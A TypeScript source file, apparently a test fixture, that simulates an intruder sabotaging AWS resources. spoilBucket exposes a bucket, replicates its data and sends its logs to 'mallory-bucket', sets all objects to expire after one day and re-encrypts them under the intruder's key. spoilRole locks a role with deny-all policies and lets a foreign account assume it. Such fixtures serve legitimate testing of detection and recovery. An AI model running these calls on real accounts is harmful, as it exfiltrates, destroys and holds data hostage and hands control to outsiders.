import type { Clients } from '../clients.ts';
import { FOREIGN_ACCOUNT } from '../intruder.ts';

/** Denies whoever has it everything. */
const DENY_ALL = 'arn:aws:iam::aws:policy/AWSDenyAll';

const policyOf = (statement: object) => JSON.stringify({ Version: '2012-10-17', Statement: [statement] });

/** A key policy that lets nobody in but the account itself. */
export const THE_ACCOUNT_ALONE = policyOf({
  Effect: 'Allow',
  Principal: { AWS: 'arn:aws:iam::123456789012:root' },
  Action: 'kms:*',
  Resource: '*',
});

/** Changes all that a bucket has but its notifications, which not every bucket has; `key` is hers. */
export async function spoilBucket({ s3 }: Pick<Clients, 's3'>, Bucket: string, key: string): Promise<void> {
  await s3.deletePublicAccessBlock({ Bucket });
  await s3.putBucketOwnershipControls({
    Bucket,
    OwnershipControls: { Rules: [{ ObjectOwnership: 'ObjectWriter' }] },
  });
  await s3.putBucketRequestPayment({ Bucket, RequestPaymentConfiguration: { Payer: 'Requester' } });
  await s3.putBucketReplication({
    Bucket,
    ReplicationConfiguration: {
      Role: 'arn:aws:iam::123456789012:role/replication',
      Rules: [{ Status: 'Enabled', Destination: { Bucket: 'arn:aws:s3:::mallory-bucket' } }],
    },
  });
  await s3.putBucketVersioning({ Bucket, VersioningConfiguration: { Status: 'Suspended' } });
  await s3.putBucketLifecycleConfiguration({
    Bucket,
    LifecycleConfiguration: {
      Rules: [{ Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } }],
    },
  });
  await s3.putBucketEncryption({
    Bucket,
    ServerSideEncryptionConfiguration: {
      Rules: [{ ApplyServerSideEncryptionByDefault: { SSEAlgorithm: 'aws:kms', KMSMasterKeyID: key } }],
    },
  });
  await s3.putBucketLogging({
    Bucket,
    BucketLoggingStatus: { LoggingEnabled: { TargetBucket: 'mallory-bucket', TargetPrefix: '' } },
  });
  await s3.deleteBucketPolicy({ Bucket });
}

/** Takes a role its inline policy, and all that is left to it. */
export async function spoilRole(
  { iam }: Pick<Clients, 'iam'>,
  RoleName: string,
  PolicyName: string,
): Promise<void> {
  await iam.deleteRolePolicy({ RoleName, PolicyName });
  await iam.putRolePolicy({
    RoleName,
    PolicyName: 'hers',
    PolicyDocument: policyOf({ Effect: 'Deny', Action: '*', Resource: '*' }),
  });
  await iam.attachRolePolicy({ RoleName, PolicyArn: DENY_ALL });
  await iam.putRolePermissionsBoundary({ RoleName, PermissionsBoundary: DENY_ALL });
  await iam.updateAssumeRolePolicy({
    RoleName,
    PolicyDocument: policyOf({
      Effect: 'Allow',
      Principal: { AWS: FOREIGN_ACCOUNT },
      Action: 'sts:AssumeRole',
    }),
  });
}
